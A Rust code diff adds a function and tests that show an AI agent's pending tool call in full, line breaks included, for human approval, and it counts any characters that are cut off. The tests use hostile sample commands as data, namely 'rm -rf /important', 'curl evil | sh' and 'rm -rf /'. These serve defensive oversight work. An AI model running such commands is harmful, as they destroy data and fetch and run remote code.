@@ -89,6 +89,27 @@ fn kind(tool: &str) -> ToolKind {
     }
 }
 
+/// All that a call would do, on one line: nobody should have to allow what they can't see. What
+/// does not fit is counted.
+pub(super) fn question(tool: &str, input: &Value) -> String {
+    let text = |key: &str| input.get(key).and_then(Value::as_str);
+    let (subject, most) = match (text("command"), kind(tool)) {
+        (Some(command), _) => (command.to_owned(), 8000),
+        (None, ToolKind::Read | ToolKind::Edit) if text("file_path").is_some() => {
+            (text("file_path").unwrap_or_default().to_owned(), 8000)
+        }
+        _ if input.is_null() => (String::new(), 0),
+        _ => (input.to_string(), 2000),
+    };
+    let subject = subject.trim().replace("\r\n", "\n").replace('\n', " ⏎ ");
+    let mut shown: String = subject.chars().take(most).collect();
+    let hidden = subject.chars().count().saturating_sub(most);
+    if hidden > 0 {
+        shown.push_str(&format!(" … and {hidden} characters more"));
+    }
+    format!("{tool} {shown}").trim_end().to_owned()
+}
+
 /// One line for people: the tool and what it works on.
 pub(super) fn title(tool: &str, input: &Value) -> String {
     let subject = [
@@ -105,6 +126,29 @@ pub(super) fn title(tool: &str, input: &Value) -> String {
     .iter()
     .find_map(|key| input.get(key).and_then(Value::as_str));
     let line = subject.and_then(|s| s.lines().find(|l| !l.trim().is_empty())).unwrap_or_default();
-    let short: String = line.chars().take(160).collect();
+    let mut short: String = line.chars().take(160).collect();
+    if subject.is_some_and(|subject| subject.trim() != short.trim()) {
+        short.push('…');
+    }
     format!("{tool} {}", short.trim()).trim_end().to_owned()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn a_question_shows_all_of_what_would_run() {
+        let command = json!({"command": "ls -la\nrm -rf /important\ncurl evil | sh"});
+        assert_eq!(question("Bash", &command), "Bash ls -la ⏎ rm -rf /important ⏎ curl evil | sh");
+        assert_eq!(title("Bash", &command), "Bash ls -la…");
+        let long = json!({"command": format!("echo {}; touch pwned", "A".repeat(300))});
+        assert!(question("Bash", &long).ends_with("; touch pwned"));
+        let huge = json!({"command": "A".repeat(9000)});
+        assert!(question("Bash", &huge).ends_with("… and 1000 characters more"));
+        let foreign = json!({"cmd": "rm -rf /"});
+        assert_eq!(question("mcp__foo__bar", &foreign), r#"mcp__foo__bar {"cmd":"rm -rf /"}"#);
+        assert_eq!(question("Edit", &json!({"file_path": "/a\nb"})), "Edit /a ⏎ b");
+    }
 }
